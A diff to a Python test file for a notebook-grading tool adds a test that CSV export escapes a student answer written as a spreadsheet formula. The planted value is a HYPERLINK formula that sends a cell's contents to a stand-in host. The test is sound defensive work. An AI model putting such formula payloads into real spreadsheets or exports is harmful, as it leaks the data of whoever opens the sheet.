@@ -193,6 +193,12 @@ def test_make_grade_and_gradescope_list_the_written_questions_with_the_answers(a
     written.write_sheet(tmp_path, manual, [Submission("bob/lab.ipynb", tmp_path / "bob.ipynb")])
     assert list(csv.reader(sheet.open()))[2][:2] == ["bob/lab.ipynb", "1"]
 
+    # a hostile answer written as a spreadsheet formula is shown as text, not run, when the sheet is opened
+    nb["cells"][answer_cells[0]]["source"] = '=HYPERLINK("http://example.invalid/?"&A1, "click")'
+    written.write_sheet(tmp_path, manual, [Submission("eve/lab.ipynb", _write(tmp_path / "eve.ipynb", nb))])
+    cell = list(csv.reader(sheet.open()))[2][len(manual) + 2]
+    assert cell.startswith("'=HYPERLINK(") and "print(0.95 - 0.85)" in cell
+
 
 def _write(path: Path, nb: dict) -> Path:
     path.write_text(json.dumps(nb))
